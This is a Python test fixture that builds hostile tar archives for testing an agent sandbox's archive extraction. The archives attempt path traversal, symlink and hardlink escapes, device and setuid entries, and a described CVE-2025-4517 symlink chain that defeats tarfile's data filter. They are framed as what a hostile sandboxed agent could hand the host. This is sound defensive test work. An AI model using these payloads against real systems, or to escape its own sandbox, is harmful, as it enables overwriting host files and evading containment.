"""Archives a hostile sandbox could hand the host, and checks that the host stayed as it was.

`crafted_archives(outside)` builds tars that each try to write into `outside` (a host folder
next to the destination): absolute names, `..`, a symbolic link then a write through it, a
relative link out, a hard link to a host file then a write over it, devices and FIFOs,
set-uid modes, and the CVE-2025-4517 chain (links whose expansion outgrows PATH_MAX, which
fools `tarfile`'s data filter in CPython 3.11.7: it overwrote the host file here). Used by
the unit tests of `agentrl.sandbox.archive` and by the integration suite, which delivers
them through a `tar` the agent put on PATH.
"""

from __future__ import annotations

import io
import os
import stat
import tarfile
from pathlib import Path


def _tar(members) -> bytes:
    """A tar of (TarInfo, content bytes or None) pairs."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _info(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "", mode: int = 0o644) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, mode
    return info


def crafted_archives(outside: Path) -> dict[str, bytes]:
    """Archives that each try to write into `outside` (a host folder next to the destination)."""
    victim = outside / "victim.txt"
    chain_dir, steps = "d" * 247, "abcdefghijklmnop"
    chain, path = [], ""
    for step in steps:  # CVE-2025-4517: links whose expansion outgrows PATH_MAX fool the data filter
        chain.append((_info(os.path.join(path, chain_dir), tarfile.DIRTYPE, mode=0o755), None))
        chain.append((_info(os.path.join(path, step), tarfile.SYMTYPE, chain_dir), None))
        path = os.path.join(path, chain_dir)
    long_link = os.path.join(*steps, "l" * 254)
    chain.append((_info(long_link, tarfile.SYMTYPE, "../" * len(steps)), None))
    chain.append((_info("escape", tarfile.SYMTYPE, long_link + "/" + "../" * 8 + str(outside).lstrip("/")), None))
    chain.append((_info("escape/pwned-by-cve", tarfile.REGTYPE), b"pwned\n"))
    chain.append((_info("flaglink", tarfile.LNKTYPE, "escape/victim.txt"), None))
    chain.append((_info("flaglink", tarfile.REGTYPE), b"overwritten\n"))
    return {
        "absolute": _tar([(_info(str(outside / "abs.txt")), b"pwned\n")]),
        "dotdot": _tar([(_info("../outside/dotdot.txt"), b"pwned\n"), (_info("a/../../outside/x"), b"pwned\n")]),
        "symlink-then-write": _tar([(_info("link", tarfile.SYMTYPE, str(outside)), None),
                                    (_info("link/through-link.txt"), b"pwned\n")]),
        "relative-symlink": _tar([(_info("up", tarfile.SYMTYPE, "../outside"), None),
                                  (_info("up/through-up.txt"), b"pwned\n")]),
        "hardlink": _tar([(_info("hard", tarfile.LNKTYPE, str(victim)), None), (_info("hard"), b"overwritten\n")]),
        "device": _tar([(_info("null", tarfile.CHRTYPE), None), (_info("fifo", tarfile.FIFOTYPE), None)]),
        "setuid": _tar([(_info("suid", mode=0o6777), b"#!/bin/sh\n")]),
        "cve-2025-4517": _tar(chain),
    }


def host_snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def links_or_specials(folder: Path) -> list[str]:
    """Everything under `folder` that is not a plain file or folder (or cannot even be looked at)."""
    found = []
    for top, dirs, files in os.walk(folder):
        for name in dirs + files:
            try:
                mode = os.lstat(os.path.join(top, name)).st_mode
            except OSError as error:
                found.append(f"{name[:20]}... ({error.strerror})")
                continue
            if not (stat.S_ISREG(mode) or stat.S_ISDIR(mode)):
                found.append(os.path.join(top, name)[-120:])
    return found
